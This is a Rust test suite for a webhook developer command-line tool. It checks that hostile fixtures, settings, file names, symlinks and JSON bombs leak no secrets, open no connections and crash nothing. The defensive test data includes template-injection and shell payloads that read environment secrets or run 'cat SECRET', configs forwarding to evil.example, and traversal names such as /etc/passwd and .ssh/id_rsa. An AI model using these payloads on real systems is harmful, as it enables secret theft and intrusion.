//! Files and names that may have come with a project: fixtures and settings that want more than they may, names that lead
//! elsewhere, links where our files belong, JSON that wants to break whoever parses it.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::assurance::{report, tier};
use crate::durability::{Sender, run_to_end};
use crate::handler::Handler;
use crate::world::World;

/// What nobody may get to see: it stands in the environment, and in a file outside of the project.
const CANARY: &str = "CANARY-of-the-user";

/// Every file below a folder, with what it is and what stands in it; links are not followed, and what `listen` keeps for
/// itself is left out.
fn snapshot(folder: &Path) -> BTreeMap<PathBuf, String> {
    let mut found = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).unwrap().map(Result::unwrap) {
            let (path, kind) = (entry.path(), entry.file_type().unwrap());
            if path.ends_with(".mbaas-dev") && kind.is_dir() {
                continue;
            }
            let content = if kind.is_dir() {
                folders.push(path.clone());
                String::new()
            } else if kind.is_symlink() {
                format!("to {}", fs::read_link(&path).unwrap().display())
            } else if kind.is_file() {
                String::from_utf8_lossy(&fs::read(&path).unwrap()).into_owned()
            } else {
                "special".to_owned()
            };
            found.insert(path, content);
        }
    }
    found
}

/// A project that lies beside something precious, and a listener that nobody may connect to.
struct Precious {
    world: World,
    before: BTreeMap<PathBuf, String>,
    beside: tempfile::TempDir,
    trap: TcpListener,
}

impl Precious {
    fn new() -> Self {
        let beside = tempfile::tempdir().unwrap();
        fs::write(beside.path().join("secret.json"), format!("{{\"a\":\"{CANARY}\"}}")).unwrap();
        let trap = TcpListener::bind("127.0.0.1:0").unwrap();
        trap.set_nonblocking(true).unwrap();
        let before = snapshot(beside.path());
        Self { world: World::new(), before, beside, trap }
    }

    fn port(&self) -> u16 {
        self.trap.local_addr().unwrap().port()
    }

    /// The placeholders of a template filled in: `SECRET` is the precious file, `TRAP` the address of the trap.
    fn fill(&self, text: &str) -> String {
        let secret = self.beside.path().join("secret.json");
        text.replace("SECRET", secret.to_str().unwrap())
            .replace("TRAP", &format!("127.0.0.1:{}", self.port()))
    }

    /// Runs the real program among variables that nobody may read.
    fn run(&self, arguments: &[&str]) -> Output {
        let mut command = self.world.command(arguments);
        for name in
            ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DATABASE_URL", "MBAAS_DEV_SECRET_CALLBACK", "mbaas_x"]
        {
            command.env(name, CANARY);
        }
        let proxy = format!("http://127.0.0.1:{}", self.port());
        for name in ["http_proxy", "https_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"] {
            command.env(name, &proxy);
        }
        command.env("PROMPT", CANARY);
        run_to_end(command)
    }

    /// What came out, and what else happened, that must not.
    fn violations(&self, what: &str, output: &Output) -> Vec<String> {
        let said = String::from_utf8_lossy(&[&output.stdout[..], &output.stderr].concat()).into_owned();
        let mut violations = Vec::new();
        if said.contains(CANARY) {
            violations.push(format!("{what}: it shows what it may not: {said}"));
        }
        if output.status.code().is_none() || said.contains("panicked") {
            violations.push(format!("{what}: it ends with {}: {said}", output.status));
        }
        if self.trap.accept().is_ok() {
            violations.push(format!("{what}: it connects"));
        }
        if snapshot(self.beside.path()) != self.before {
            violations.push(format!("{what}: files outside of the project changed"));
        }
        violations
    }
}

/// Fixtures that want to read the environment or files, to connect, to run something, or never to end.
const FIXTURES: [&str; 46] = [
    r#"{"event":"a","x":"{{ env('AWS_SECRET_ACCESS_KEY') }}"}"#,
    r#"{"event":"a","x":"{{ env('GITHUB_TOKEN', 'none') }}"}"#,
    r#"{"event":"a","x":"{{ env('MBAAS_DEV_SECRET_CALLBACK') }}"}"#,
    r#"{"event":"a","x":"{{ env('mbaas_x') }}"}"#,
    r#"{"event":"a","x":"{{ env('MBAAS_X/../PROMPT') }}"}"#,
    r#"{"event":"a","x":"{{ env(env) }}"}"#,
    r#"{"event":"a","x":"{{ env('MBAAS_\u0000PROMPT') }}"}"#,
    r#"{"event":"a","x":"{{ env('') }}"}"#,
    r#"{"event":"a","x":"{{ env('PROMPT='|lower) }}"}"#,
    r#"{"event":"a","x":"${PROMPT} $PROMPT %PROMPT% {{PROMPT}} {$PROMPT}"}"#,
    r#"{"event":"a","x":"{{ environ }}{{ environment }}{{ process.env.PROMPT }}"}"#,
    r#"{"event":"a","x":"{% include 'SECRET' %}"}"#,
    r#"{"event":"a","x":"{% import 'SECRET' as s %}{{ s }}"}"#,
    r#"{"event":"a","x":"{% extends 'SECRET' %}"}"#,
    r#"{"event":"a","x":"{{ include('SECRET') }}"}"#,
    r#"{"event":"a","x":"{{ file('SECRET') }}{{ read('SECRET') }}{{ open('SECRET') }}"}"#,
    r#"{"event":"a","x":"{{ load('SECRET') }}"}"#,
    r#"{"event":"a","x":"{{ cat('SECRET') }}{{ exec('cat SECRET') }}{{ shell('cat SECRET') }}"}"#,
    r#"{"event":"a","x":"{{ 'x'.__class__.__mro__ }}"}"#,
    r#"{"event":"a","x":"{{ self }}{{ loop }}{{ debug() }}"}"#,
    r#"{"event":"a","x":"{{ state.env }}{{ config }}{{ secret }}{{ token }}"}"#,
    r#"{"event":"a","x":"{{ http('http://TRAP/') }}{{ fetch('http://TRAP/') }}"}"#,
    r#"{"event":"a","x":"{{ url('http://TRAP/') }}"}"#,
    r#"{"$ref":"file://SECRET","event":"a"}"#,
    r#"{"$ref":"http://TRAP/schema.json","event":"a"}"#,
    r#"{"$schema":"http://TRAP/schema.json","event":"a"}"#,
    r#"{"$include":"SECRET","event":"a"}"#,
    r#"{"$fixture":{"include":"SECRET"},"event":"a"}"#,
    r#"{"$fixture":{"target":"http://TRAP/"},"event":"a"}"#,
    r#"{"$fixture":{"forward":"TRAP","to":"TRAP","url":"http://TRAP/"},"event":"a"}"#,
    r#"{"$fixture":"SECRET","event":"a"}"#,
    r#"{"event":"a","x":"{% for a in range(1000000000) %}x{% endfor %}"}"#,
    r#"{"event":"a","x":"{{ range(1000000000) }}"}"#,
    r#"{"event":"a","x":"{{ 'x' * 100000000000 }}"}"#,
    r#"{"event":"a","x":"{{ transcript(minutes=1000000000) }}"}"#,
    r#"{"event":"a","x":"{{ transcript(minutes=-1) }}"}"#,
    r#"{"event":"a","x":"{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"}"#,
    r#"{"event":"a","x":"{% set x = env %}{{ x('PROMPT') }}"}"#,
    r#"{"event":"a","x":"{{ now('PROMPT') }}{{ unix('99999999999999999999y') }}"}"#,
    r#"{"event":"a","x":"{{ [1,2,3]|map('env')|join }}"}"#,
    r#"{"event":"a","x":"{{ 'PROMPT'|env }}{{ 'PROMPT'|attr('x') }}"}"#,
    r#"{"event":"a","x":"{{ ''|format('%n%n') }}"}"#,
    r#"{"event":"a","webhook_url":"http://TRAP/","callback":"http://TRAP/"}"#,
    r#"{"event":"../../../../SECRET","x":1}"#,
    "#!/bin/sh\ncat SECRET\n",
    "\u{feff}{\"event\":\"a\"",
];

/// Settings that came with a project, by the name of their file.
const SETTINGS: [(&str, &str); 29] = [
    ("mbaas-dev.toml", "[listen]\nforward = \"http://evil.example/\"\n"),
    ("mbaas-dev.toml", "[listen]\nroute = [\"*=http://evil.example/\"]\n"),
    ("mbaas-dev.toml", "[trigger]\nto = \"http://evil.example/\"\n"),
    ("mbaas-dev.toml", "[replay]\nto = \"http://192.0.2.1/\"\n"),
    ("mbaas-dev.toml", "[listen]\nforward = \"http://127.0.0.1@evil.example/\"\n"),
    ("mbaas-dev.toml", "[listen]\nforward = \"http://127.0.0.1.evil.example/\"\n"),
    ("mbaas-dev.toml", "[trigger]\nalert = \"http://evil.example/\"\n"),
    ("mbaas-dev.toml", "[listen]\ntunnel = \"wss://evil.example/\"\n"),
    ("mbaas-dev.toml", "[deliveries.export]\noutput = \"SECRET\"\n"),
    ("mbaas-dev.toml", "[deliveries.export]\nno-redact = true\n"),
    ("mbaas-dev.toml", "[secret.show]\nwrite-env = \"SECRET:X\"\n"),
    ("mbaas-dev.toml", "[deliveries.prune]\nkeep = 1\n"),
    ("mbaas-dev.toml", "[deliveries.prune]\nolder-than = \"0s\"\n"),
    ("mbaas-dev.toml", "[deliveries.prune]\nmax-size = \"1K\"\n"),
    ("mbaas-dev.toml", "[deliveries.prune]\nheld = true\n"),
    ("mbaas-dev.toml", "[listen]\nkeep = \"1\"\n"),
    ("mbaas-dev.toml", "[listen]\nbind = \"0.0.0.0\"\n"),
    ("mbaas-dev.toml", "[listen]\ninsecure = true\n"),
    ("mbaas-dev.toml", "data-dir = \"../other/.mbaas-dev\"\n"),
    ("mbaas-dev.toml", "[fixtures.init]\nforce = true\n"),
    ("mbaas-dev.toml", "[relay.release]\ndiscard = true\n"),
    ("mbaas-dev.toml", "include = \"SECRET\"\n"),
    ("mbaas-dev.toml", "[listen]\nsecret = { file = \"SECRET\" }\n"),
    ("mbaas-dev.toml", "[listen]\nforward = \"${PROMPT}\"\n"),
    ("mbaas-dev.toml", "[listen]\nexec = \"cat SECRET\"\n"),
    (
        "webhook_config.json",
        r#"{"webhook_url":"http://evil.example/","events":["*"],"secret":"s","enabled":true}"#,
    ),
    (
        "webhook_config.json",
        r#"{"webhook_url":"file://SECRET","events":["meeting.completed"],"secret":"s","enabled":true}"#,
    ),
    ("webhook_config.json", r#"{"$ref":"SECRET"}"#),
    ("webhook_config.json", r#"{"webhook_url":"http://127.0.0.1:1/","secret":{"env":"PROMPT"}}"#),
];

#[test]
fn fixtures_and_settings_are_data_and_reach_nothing() {
    let precious = Precious::new();
    let (mut inputs, mut violations) = (0, Vec::new());
    for (number, fixture) in FIXTURES.iter().enumerate() {
        let name = format!("fixtures/preview/hostile.{number}.json");
        precious.world.write(&name, precious.fill(fixture));
        for arguments in
            [&["trigger", &name, "--print", "--secret", "s"][..], &["fixtures", "validate", "fixtures"]]
        {
            let output = precious.run(arguments);
            inputs += 1;
            violations.extend(precious.violations(&format!("{arguments:?} of {fixture}"), &output));
        }
        fs::remove_file(precious.world.folder().join(name)).unwrap();
    }
    for (file, content) in SETTINGS {
        precious.world.write(file, precious.fill(content));
        for arguments in [
            &["listen", "--port", "0", "--expect", "x", "--within", "100ms"][..],
            &["trigger", "meeting.started"],
            &["config", "show"],
            &["doctor"],
        ] {
            let output = precious.run(arguments);
            inputs += 1;
            let what = format!("{arguments:?} with {content}");
            // Those of the tool itself are refused; those of the vendor say that they need a target.
            let must_refuse = file == "mbaas-dev.toml" && arguments[0] == "listen";
            if must_refuse && output.status.code() != Some(2) {
                violations.push(format!("{what}: it ends with {}", output.status));
            }
            violations.extend(precious.violations(&what, &output));
        }
        fs::remove_file(precious.world.folder().join(file)).unwrap();
    }
    report("S23", inputs, violations.len());
    report("P8", inputs, violations.len());
    assert!(violations.is_empty(), "{}", violations.join("\n"));
}

/// Names that lead elsewhere, or that a file system or a terminal takes for something else.
fn names() -> Vec<String> {
    let parts = [
        "..",
        "../x",
        "../../x",
        "..\\x",
        "..\\..\\x",
        "/x",
        "//x",
        "\\\\host\\share\\x",
        "C:\\x",
        "C:x",
        "./x",
        ".",
        "x/../../y",
        "x/..",
        "%2e%2e%2fx",
        "..%2fx",
        "%2e%2e/x",
        "..%5cx",
        "%252e%252e%252fx",
        "..%c0%afx",
        "..;/x",
        "....//x",
        "..\u{2215}x",
        "..\u{ff0f}x",
        "\u{2024}\u{2024}/x",
        "x\0y",
        "x\ny",
        "x\r\ny",
        "\u{1b}[2J",
        "\u{202e}nosj.x",
        "~",
        "~/x",
        "~root/x",
        "$HOME/x",
        "${HOME}/x",
        "`x`",
        "$(x)",
        "x;y",
        "x|y",
        "x&y",
        "-",
        "--",
        "-x",
        "--x=y",
        "*",
        "?",
        "[a]",
        "CON",
        "NUL",
        "COM1",
        "LPT1.json",
        "aux.json",
        "x.",
        "x ",
        " x",
        "x:y",
        "x:$DATA",
        ".git/config",
        ".ssh/id_rsa",
        ".mbaas-dev/secrets.json",
        ".gitignore",
        "deliveries.db",
        "",
        "@",
        "@x",
        "x@",
        "x@@y",
        "x@../y",
        "meeting.completed@../x",
        "meeting.completed@/x",
        "meeting.completed/../../x",
        "meeting.completed\0",
        "meeting.completed.json/..",
        "preview/../../x",
        "/etc/passwd",
        "/proc/self/environ",
        "/dev/null",
        "/dev/stdin",
        "file:///etc/passwd",
        "http://x/",
        "dlv_../x",
        "#../x",
        "#-1",
        "#99999999999999999999",
        "é",
        "\u{301}",
        "x".repeat(64).as_str(),
        "x".repeat(300).as_str(),
        "x".repeat(5000).as_str(),
        "../".repeat(500).as_str(),
        "a/".repeat(500).as_str(),
    ]
    .map(str::to_owned);
    parts.to_vec()
}

#[test]
fn names_lead_nowhere() {
    let precious = Precious::new();
    let world = &precious.world;
    let handler = Handler::start();
    let listening = world.listen(&["--forward", &handler.target()]);
    assert_eq!(world.run(&["trigger", "meeting.failed"]).code(), 0);
    let exported = world.run(&["deliveries", "export", "--no-redact"]).text();
    let before = snapshot(world.folder());
    let (mut inputs, mut violations) = (0, Vec::new());
    let names = names();
    for name in &names {
        let quoted = serde_json::Value::from(name.as_str()).to_string();
        for arguments in [
            &["events", "show", name][..],
            &["trigger", name, "--print", "--secret", "s"],
            &["deliveries", "show", name],
            &["deliveries", "diff", name, "1"],
            &["deliveries", "export", name],
            &["replay", name],
            &["deliveries", "list", "--event", name],
            &["trigger", "meeting.failed", "--set", &format!("event={quoted}")],
        ] {
            // No argument of a process has a NUL in it.
            let done = world.run(arguments);
            inputs += 1;
            let said = done.text() + &done.errors();
            if said.contains("panicked") || said.contains(CANARY) || said.contains("root:x:0") {
                violations.push(format!("{arguments:?}: {said}"));
            }
        }
        // What a sender calls itself, and what an import calls its deliveries.
        let body = format!("{{\"event\":{quoted}}}");
        let mut sender = Sender::connect(&listening.address()).unwrap();
        inputs += 2;
        if sender.post(body.as_bytes()).unwrap().status != 200 {
            violations.push(format!("{name:?} as an event is not forwarded"));
        }
        let line = exported.replace("\"id\":\"dlv_", "\"id\":\"dlv_0").replace("\"failed\"", &quoted);
        let imported = world.run_with_input(&["deliveries", "import", "-"], line.as_bytes());
        if imported.errors().contains("panicked") {
            violations.push(format!("{name:?} in an import: {}", imported.errors()));
        }
        if snapshot(world.folder()) != before {
            violations.push(format!("{name:?}: files appear or go"));
        }
    }
    assert_eq!(snapshot(precious.beside.path()), precious.before);
    report("S24", inputs, violations.len());
    assert!(names.len() >= 90, "{}", names.len());
    assert!(violations.is_empty(), "{}", violations.join("\n"));
}

/// What is planted where a file of ours belongs.
fn plant(kind: &str, at: &Path, precious: &Path) {
    match kind {
        "link" => symlink(precious, at).unwrap(),
        "dangling" => symlink(precious.with_file_name("nowhere"), at).unwrap(),
        "loop" => symlink(at, at).unwrap(),
        "folder" => fs::create_dir(at).unwrap(),
        "link to a folder" => symlink(precious.parent().unwrap(), at).unwrap(),
        "pipe" => {
            let made = std::process::Command::new("mkfifo").arg(at).status().unwrap();
            assert!(made.success());
        }
        other => panic!("{other}"),
    }
}

#[test]
fn links_where_our_files_belong_are_refused_and_what_they_lead_to_is_left_alone() {
    const LISTEN: &[&str] =
        &["listen", "--port", "0", "--exit-after", "1", "--expect", "x", "--within", "1s"];
    const RECORD: &[&str] = &["trigger", "meeting.failed", "--to", "127.0.0.1:9"];
    const WRITE_ENV: &[&str] = &["secret", "show", "--write-env", ".env:S"];
    const EXPORT: &[&str] = &["deliveries", "export", "-o", "out.ndjson"];
    const INIT: &[&str] = &["fixtures", "init", "--force"];
    let places: [(&str, &[&[&str]]); 12] = [
        (".mbaas-dev", &[LISTEN, RECORD]),
        (".mbaas-dev/deliveries.db", &[RECORD, &["deliveries", "list"]]),
        (".mbaas-dev/deliveries.db-wal", &[RECORD]),
        (".mbaas-dev/deliveries.db-shm", &[RECORD]),
        (".mbaas-dev/deliveries.db-journal", &[RECORD]),
        (".mbaas-dev/bodies", &[RECORD]),
        (".mbaas-dev/secrets.json", &[&["secret", "show"], &["secret", "new"]]),
        (".mbaas-dev/lock", &[&["secret", "new"]]),
        (".mbaas-dev/listen.json", &[&["listen", "--port", "0"], &["trigger", "meeting.failed"]]),
        (".env", &[WRITE_ENV]),
        ("out.ndjson", &[EXPORT]),
        ("fixtures/preview/meeting.failed.json", &[INIT]),
    ];
    let (mut inputs, mut violations) = (0, Vec::new());
    for (place, commands) in places {
        for kind in ["link", "dangling", "loop", "folder", "link to a folder", "pipe"] {
            // These are folders anyway.
            if kind == "folder" && [".mbaas-dev", ".mbaas-dev/bodies"].contains(&place) {
                continue;
            }
            for arguments in commands {
                let (world, beside) = (World::new(), tempfile::tempdir().unwrap());
                let precious = beside.path().join("precious");
                fs::write(&precious, CANARY).unwrap();
                let before = snapshot(beside.path());
                let at = world.folder().join(place);
                if place.starts_with(".mbaas-dev/deliveries.db-") {
                    assert_eq!(world.run(RECORD).code(), 5);
                    fs::remove_file(&at).ok();
                }
                fs::create_dir_all(at.parent().unwrap()).unwrap();
                plant(kind, &at, &precious);
                let output = run_to_end(world.command(arguments));
                let said =
                    String::from_utf8_lossy(&[&output.stdout[..], &output.stderr].concat()).into_owned();
                inputs += 1;
                let what = format!("a {kind} at {place}, {arguments:?}");
                let name = at.file_name().unwrap().to_str().unwrap();
                match output.status.code() {
                    None | Some(0 | 3 | 5 | 124) => {
                        violations.push(format!("{what}: {}, {said}", output.status));
                    }
                    Some(_) if !said.contains(name) => {
                        violations.push(format!("{what} is not named: {said}"));
                    }
                    Some(_) => {}
                }
                if said.contains(CANARY) || snapshot(beside.path()) != before {
                    violations.push(format!("{what}: what it leads to is touched: {said}"));
                }
            }
        }
    }
    report("S25", inputs, violations.len());
    assert!(violations.is_empty(), "{}", violations.join("\n"));
}

/// JSON that wants to break whoever parses it: too deep, too wide, too long, or not quite JSON.
fn bombs() -> Vec<(String, Vec<u8>)> {
    let depth = tier(20_000, 100_000);
    let width = tier(50_000, 1_000_000);
    let event = |rest: &str| format!("{{\"event\":\"complete\",{rest}}}").into_bytes();
    let mut bombs: Vec<(String, Vec<u8>)> = vec![
        ("arrays".into(), "[".repeat(depth).into()),
        ("arrays, closed".into(), ("[".repeat(depth) + &"]".repeat(depth)).into()),
        ("objects".into(), "{\"a\":".repeat(depth).into()),
        ("objects, closed".into(), ("{\"a\":".repeat(depth) + "1" + &"}".repeat(depth)).into()),
        ("both".into(), "[{\"a\":".repeat(depth).into()),
        ("deep within an event".into(), event(&format!("\"a\":{}{}", "[".repeat(depth), "]".repeat(depth)))),
        ("127 deep".into(), event(&format!("\"a\":{}{}", "[".repeat(126), "]".repeat(126)))),
        ("128 deep".into(), event(&format!("\"a\":{}{}", "[".repeat(128), "]".repeat(128)))),
        ("129 deep".into(), event(&format!("\"a\":{}{}", "[".repeat(129), "]".repeat(129)))),
        ("closing brackets".into(), "]".repeat(depth).into()),
        ("keys".into(), event(&(0..width).map(|n| format!("\"k{n}\":{n}")).collect::<Vec<_>>().join(","))),
        ("the same key".into(), event(&vec!["\"event\":\"failed\""; width].join(","))),
        ("__proto__".into(), event(r#""__proto__":{"a":1},"constructor":{"prototype":{}},"__proto__":null"#)),
        ("commas".into(), ("[".to_owned() + &",".repeat(width) + "]").into()),
        ("numbers".into(), ("[".to_owned() + &"1,".repeat(width) + "1]").into()),
        ("spaces".into(), (" ".repeat(width) + "{}").into()),
        ("a long text".into(), event(&format!("\"a\":\"{}\"", "x".repeat(width * 4)))),
        ("escapes".into(), event(&format!("\"a\":\"{}\"", "\\u0000".repeat(width)))),
        ("quotes".into(), "\"".repeat(width).into()),
        ("backslashes".into(), ("\"".to_owned() + &"\\".repeat(width)).into()),
        ("percent signs".into(), "%25".repeat(width).into()),
        ("base64 of base64".into(), {
            use base64::Engine as _;
            let mut text = "token=x".repeat(100);
            for _ in 0..12 {
                text = base64::engine::general_purpose::STANDARD.encode(text);
            }
            event(&format!("\"a\":\"{text}\""))
        }),
        ("strings in strings".into(), {
            let mut text = "1".to_owned();
            for _ in 0..12 {
                text = serde_json::Value::from(format!("{{\"a\":{text}}}")).to_string();
            }
            event(&format!("\"a\":{text}"))
        }),
        (
            "a form within forms".into(),
            "--b\r\nContent-Disposition: form-data; name=x\r\n\r\n".repeat(2000).into(),
        ),
    ];
    for number in [
        "1e400",
        "-1e400",
        "1e-400",
        "1e99999999999999999999",
        "0.1e+309",
        "-0",
        "00",
        "01",
        "1.",
        ".5",
        "+1",
        "0x10",
        "NaN",
        "Infinity",
        "1_000",
        "99999999999999999999999999999999999999",
        "1E1000000000",
        "--1",
        "1e",
        "nul",
        "tru",
    ] {
        bombs.push((format!("the number {number}"), event(&format!("\"a\":{number}"))));
    }
    bombs.push(("many digits".into(), event(&format!("\"a\":{}", "9".repeat(width)))));
    bombs.push(("many decimals".into(), event(&format!("\"a\":0.{}1", "0".repeat(width)))));
    for (what, text) in [
        ("half a surrogate", r#""a":"\ud800""#),
        ("the other half", r#""a":"\udc00""#),
        ("surrogates the wrong way round", r#""a":"\udc00\ud800""#),
        ("a cut escape", r#""a":"\u12"#),
        ("an unknown escape", r#""a":"\x41""#),
        ("NUL", "\"a\0\":\"\0\""),
        ("a line feed in a text", "\"a\":\"\n\""),
        ("half a key", "\"a"),
    ] {
        bombs.push((what.into(), event(text)));
    }
    for (what, bytes) in [
        ("not UTF-8", &b"{\"event\":\"complete\",\"a\":\"\xff\xfe\"}"[..]),
        ("UTF-16", b"\xff\xfe{\0}\0"),
        ("a byte order mark", b"\xef\xbb\xbf{\"event\":\"complete\"}"),
        ("NULs", &[0; 1000]),
        ("overlong", b"{\"event\":\"\xc0\xaf\"}"),
    ] {
        bombs.push((what.into(), bytes.to_vec()));
    }
    bombs
}

#[test]
fn json_bombs_are_recorded_as_they_are_and_break_nothing() {
    let (world, handler) = (World::new(), Handler::start());
    let listening = world.listen(&["--forward", &handler.target(), "--secret", "s"]);
    let bombs = bombs();
    let (mut inputs, mut violations) = (0, Vec::new());
    for (number, (what, body)) in (1..).zip(&bombs) {
        // The commands take their time, for which no connection is kept open.
        let mut sender = Sender::connect(&listening.address()).unwrap();
        // A signature, so that it is looked into why it does not fit.
        sender.send("X-MeetingBaas-Signature: 00\r\n", body).unwrap();
        match sender.receive() {
            Ok(reply) if reply.status == 200 => {}
            other => violations.push(format!("{what}: {other:?}")),
        }
        if handler.next().body != *body {
            violations.push(format!("{what}: the handler gets something else"));
        }
        let id = format!("#{number}");
        let shown = run_to_end(world.command(&["deliveries", "show", &id, "--body"]));
        if shown.stdout != *body {
            violations.push(format!("{what}: {} bytes of {} are shown", shown.stdout.len(), body.len()));
        }
        let file = world.write("bomb.json", body);
        let file = file.to_str().unwrap();
        // The programs themselves, since a stack that overflows ends a process.
        for arguments in [
            &["deliveries", "show", &id][..],
            &["deliveries", "show", &id, "--json"],
            &["deliveries", "diff", &id, "1"],
            &["deliveries", "export", &id],
            &["trigger", file, "--print", "--secret", "s"],
            &["verify", file, "--header", "X-MeetingBaas-Signature: 00", "--secret", "s"],
        ] {
            let output = run_to_end(world.command(arguments));
            inputs += 1;
            let errors = String::from_utf8_lossy(&output.stderr);
            if output.status.code().is_none() || errors.contains("panicked") || errors.contains("overflow") {
                violations.push(format!("{what}, {arguments:?}: {}, {errors}", output.status));
            }
        }
    }
    assert_eq!(world.run(&["deliveries", "list", "--limit", "1000", "--json"]).objects().len(), bombs.len());
    report("S26", inputs + bombs.len(), violations.len());
    assert!(bombs.len() >= 50, "{}", bombs.len());
    assert!(violations.is_empty(), "{}", violations.join("\n"));
}
